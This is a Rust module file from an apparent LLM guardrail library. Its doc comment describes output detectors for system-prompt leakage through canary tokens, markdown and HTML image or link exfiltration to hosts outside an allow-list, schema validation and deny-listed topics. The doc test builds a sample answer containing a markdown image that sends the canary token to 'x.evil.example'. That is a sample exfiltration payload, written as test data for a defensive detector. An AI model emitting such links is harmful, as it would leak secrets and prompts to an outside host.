//! Output checks: what the model's answer must not contain or must be.
//!
//! - [`CanaryGuard`]: system-prompt leakage, through random canary tokens embedded in the
//!   system prompt (found also when reformatted) and verbatim runs of the prompt's words
//!   (`output.canary`, `output.system_prompt`).
//! - [`ExfilDetector`]: markdown/HTML images and links to hosts outside an allow-list, scored
//!   higher when the URL carries data (`output.exfil_image`, `output.exfil_link`).
//! - [`SchemaGuard`]: JSON-schema validity of structured output (`output.schema`); it needs
//!   the whole text, so it is also a [`Guardrail`](llmops_core::Guardrail).
//! - [`DenyList`]: banned topics and deny-listed phrases (`denylist.<topic>`).
//!
//! Each is a [`Detector`](crate::Detector), so the crate's generic guard and stream tap run it
//! with a policy per text source; canary, exfiltration and schema checks look at
//! [`TextSource::Output`](llmops_core::TextSource::Output) only. Secret and PII leaks in the
//! output are the [`secrets`](crate::secrets) and [`pii`](crate::pii) detectors run on the
//! output. See `docs/guard.md` (section "Output checks").
//!
//! ```
//! use llmops_core::TextSource;
//! use llmops_guard::Detector;
//! use llmops_guard::output::{CanaryGuard, DenyList, ExfilDetector};
//!
//! let canary = CanaryGuard::new()?;
//! let exfil = ExfilDetector::new(["*.ourcompany.com"])?;
//! let deny = DenyList::builder().topic("legal", ["legal advice"]).build()?;
//! let answer = format!("I cannot give legal advice. ![p](https://x.evil.example/?k={})", canary.token());
//! let mut found = Vec::new();
//! for d in [&canary as &dyn Detector, &exfil, &deny] {
//!     d.scan(&answer, TextSource::Output, &mut found);
//! }
//! let mut categories: Vec<_> = found.iter().map(|f| f.category.as_str()).collect();
//! categories.sort();
//! assert_eq!(categories, ["denylist.legal", "output.canary", "output.exfil_image"]);
//! # Ok::<(), llmops_guard::output::OutputError>(())
//! ```

mod canary;
mod denylist;
mod error;
mod exfil;
mod schema;

pub use canary::{CANARY, CanaryGuard, SYSTEM_PROMPT};
pub use denylist::{DenyList, DenyListBuilder};
pub use error::OutputError;
pub use exfil::{EXFIL_IMAGE, EXFIL_LINK, ExfilDetector};
pub use schema::{SCHEMA, SchemaAction, SchemaFailure, SchemaGuard};
